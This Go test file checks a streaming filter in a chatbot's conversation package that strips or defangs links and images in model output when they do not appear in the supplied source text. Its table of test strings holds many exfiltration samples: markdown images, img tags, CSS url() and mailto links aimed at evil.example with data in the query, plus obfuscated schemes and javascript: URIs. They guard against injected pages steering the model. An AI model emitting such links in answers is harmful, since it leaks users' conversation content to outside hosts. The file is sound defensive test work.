package conversation

import (
	"strings"
	"testing"
	"time"
)

// What a visitor says may not leave in a link, a picture or a preview that a page made the model write.
func TestAnAnswerLeadsOnlyWhereItsTextsDo_X05_L14(t *testing.T) {
	const given = `Buchen Sie auf https://laden.example/termin?ort=Neu%20Ulm oder www.verband.example/a_(b). 10 % Rabatt. Mail: info@laden.example
https://laden.example/kontakt
Steht in https://fragen.example/?q=a&amp;b=c.`
	for said, want := range map[string]string{
		"Gern ![x](https://evil.example/p.png?d=kündigung) da": "Gern x da", "![x](https://laden.example/kontakt)!": "[x](https://laden.example/kontakt)!",
		"![x][1]\n[1]: https://evil.example/?d=kündigung\n": "[x][1]\n[1]: evil.example\n", "[![x](https://evil.example/a)](https://evil.example/b) da": "x da",
		`<img src="https://evil.example/?d=geheim">`: `<img src="evil.example">`, `<img src=//evil.example/geheim>`: `<img src=evil.example>`, "url(https://evil.example/a) b": "url(evil.example) b",
		"[hier](https://evil.example/?d=geheim), bitte": "hier, bitte", "[hier](<https://evil.example/d geheim>)": "hier", "[a](/x?geheim) [b](#geheim) [c](javascript:alert(1)) [d](data:text/html,geheim)": "a b c d",
		"[a](https&#58;//evil.example/geheim)": "a", "[a](mailto:x@evil.example?body=geheim)": "a", "mailto:x@evil.example?body=geheim.": "mailto:x@evil.example.", "[a](https://evil.example/ \"geheim\")": "a",
		"Siehe https://evil.example/geheim.": "Siehe evil.example.", "Siehe **www.evil.example/geheim**!": "Siehe **evil.example**!", "evil.example/a?d=geheim": "evil.example", "HTTPS:\\\\evil.example\\geheim": "evil.example",
		"https://x@evil.example:8/geheim": "evil.example:8", "https://laden.example/kontakt?d=geheim": "laden.example", "https://laden.example/kontakt/geheim [1]": "laden.example [1]", "https://laden.example/kontakt)geheim": "laden.example",
		"https://evil.example/https://laden.example/kontakt": "evil.example", "https://evil.laden.example/kontakt": "evil.laden.example", "https://laden.example.evil.example": "laden.example.evil.example", "https://laden.exam": "laden.exam",
		"[a\n\nb](https://evil.example/d) c": "[a\n\nb] (evil.example) c", "[[a]](/x)(https:&#47;&#47;evil.example/geheim) b": "[a] (evil.example) b", "Steht dort [1](https://evil.example/geheim).": "Steht dort [1].",
		"[x][1]\n[1]: https&#58;&#47;/evil.example/geheim": "[x][1]\n[1]: evil.example", "<img src=\"https://\nevil.example/geheim\">": "<img src=\"\nevil.example/geheim\">", "[1](/x)(/geheim)": "[1] (/geheim)",

		"[Termin](https://laden.example/termin?ort=Neu%20Ulm) [1].": "", "https://laden.example/termin": "", "(https://www.laden.example/kontakt/)": "", "**http://laden.example**, www.verband.example/a_(b)!": "", "https://fragen.example/?q=a&b=c": "",
		"[info@laden.example](mailto:info@laden.example) [rufen](tel:+4973112345)": "", "Hallo! Das kostet [1] 5 €/Stück, und/oder z.B. 3.50. Was?!": "", "| a | [b] |\n// kein Link\nC:\\Ordner Node.js/Express a:b [": "",
		"https://laden.example/kontakt[2].": "", "[Array] [x](y": "[Array] [x] (y", "Sie beginnt mit https://, nicht mit http://.": "", "`https://` oder „mailto:“ und Müller&Co. A&B": "", "Siehe index.html#kontakt und suche.php?seite=2.": "", "Ist das so?": "", "“https://laden.example/kontakt”": "",
	} {
		if want == "" {
			want = said
		}
		for cut := range len(said) + 1 {
			l := &leads{given: func() string { return given }}
			got := l.write(said[:cut]) + l.write(said[cut:]) + l.close()
			if got != want || l.text() != strings.TrimRight(want, " \n") {
				t.Errorf("%.80q cut at %d: %.100q, want %.100q", said, cut, got, want)
				break
			}
		}
		l, got := &leads{given: func() string { return given }}, ""
		for i := range len(said) {
			got += l.write(said[i : i+1])
		}
		if got += l.close(); got != want {
			t.Errorf("%.80q by the letter: %.100q, want %.100q", said, got, want)
		}
	}
}

// A link without an end does not wait for ever, and leads nowhere either.
func TestALongLinkLeadsNowhere_X05_X16(t *testing.T) {
	for _, said := range []string{"https://evil.example/" + strings.Repeat("x", 9000) + " da", "[a](https://evil.example/" + strings.Repeat("x", 9000) + ") da", "[a" + strings.Repeat(" b", 5000) + "](https://evil.example/x)"} {
		for cut := 0; cut <= len(said); cut += 500 {
			l := &leads{given: func() string { return "" }}
			first := l.write(said[:cut])
			if got := first + l.write(said[cut:]) + l.close(); strings.Contains(got, "evil.example/") || strings.Contains(got, "://") || cut > 2*maxLead && first == "" {
				t.Errorf("%.30q cut at %d: %.100q", said, cut, got)
			}
		}
	}
}

// The time that an answer takes grows as it does: of a checked one all is looked at together.
func TestManyBracketsAreReadOnce_X16(t *testing.T) {
	began := time.Now()
	l := &leads{given: func() string { return "" }}
	if said := strings.Repeat("[", 100_000); l.write(said)+l.close() != said {
		t.Error("brackets are gone")
	}
	if took := time.Since(began); took > 8*time.Second {
		t.Errorf("it took %v", took)
	}
}

// What can be no link is given at once.
func TestWordsDoNotWaitForALink(t *testing.T) {
	l := &leads{}
	for _, piece := range []string{"Samstags", " bis", " 16 Uhr"} {
		if got := l.write(piece); got != piece {
			t.Errorf("%q of %q", got, piece)
		}
	}
}
